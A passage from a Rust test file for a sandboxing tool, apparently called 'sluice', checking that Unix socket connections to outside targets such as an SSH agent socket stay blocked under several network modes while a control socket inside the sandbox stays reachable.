    }
    let agent = format!("SSH_AUTH_SOCK={}", targets[1].display());
    for mode in [
        vec!["--net", "none"],
        vec!["--net", "tcp:443"],
        vec!["--allow-host", "example.test"],
        vec!["--net", "all"],
    ] {
        let mut args = mode.clone();
        args.extend(["--env", &agent]);
        fx.sluice(&args, &["unix-connect", inside.to_str().unwrap()])
            .assert_ok();
        assert_eq!(arrived(&inside_listener), 1, "the control ({mode:?})");
        for (path, listener) in targets.iter().zip(&listeners) {
            fx.sluice(&args, &["unix-connect", path.to_str().unwrap()])
                .assert_blocked();
            assert_eq!(arrived(listener), 0, "{path:?} reached ({mode:?})");
        }
    }
    let _ = fs::remove_dir_all(x11.parent().unwrap());
}
